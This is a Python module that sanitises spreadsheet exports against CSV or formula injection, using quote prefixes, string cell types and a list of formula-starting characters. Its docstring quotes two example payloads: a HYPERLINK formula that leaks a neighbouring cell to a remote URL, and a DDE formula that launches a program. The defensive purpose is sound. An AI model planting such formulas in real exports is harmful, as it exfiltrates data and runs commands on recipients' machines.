"""Writing user text into spreadsheets as text, never as a formula (OWASP "CSV Injection").

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width forms, which
spreadsheet programs with a Chinese input method treat the same) may be run as a formula by Excel or LibreOffice:
`=HYPERLINK("http://…"&A1,"点击查看")` leaks the neighbouring cell, `=cmd|' /C calc'!A0` starts a program.
Every export builds its rows with `xlsx_row`: strings are stored with the string data type (openpyxl would store
text starting with `=` as a formula) and, when they start with such a character, with Excel's quote prefix, so
that editing the cell later does not turn it into a formula either. `csv_cell` is the CSV form of the same rule
(a leading single quote, as OWASP recommends).
"""

import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def starts_formula(text: str) -> bool:
    """True when a spreadsheet program could read `text` as the start of a formula."""
    return text.lstrip(" ").startswith(FORMULA_STARTS)


def xlsx_row(sheet, values: Iterable[Any]) -> list:
    """One row for a write-only openpyxl sheet: strings as string cells (quote-prefixed when formula-like)."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for value in values:
        if not isinstance(value, str):
            row.append(value)
            continue
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"  # openpyxl stores text starting with "=" as a formula otherwise
        if starts_formula(value):
            cell.quotePrefix = True
        row.append(cell)
    return row


def csv_cell(value: Any) -> Any:
    """A CSV field: formula-like text gets a leading single quote (OWASP); other values are unchanged."""
    if isinstance(value, str) and starts_formula(value):
        return "'" + value
    return value


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_response(workbook, filename: str):
    """A saved openpyxl workbook as a download (the dashboard's and the 回头看 board's exports)."""
    from django.http import FileResponse

    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return FileResponse(buffer, as_attachment=True, filename=filename, content_type=XLSX_TYPE)


def csv_response(header: Iterable[Any], rows: Iterable[Iterable[Any]], filename: str):
    """Rows as a CSV download: UTF-8 with a BOM (so Excel reads the Chinese), formula-like text quoted (`csv_cell`)."""
    import csv

    from django.http import HttpResponse

    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow([str(column) for column in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    response = HttpResponse(buffer.getvalue().encode("utf-8"), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
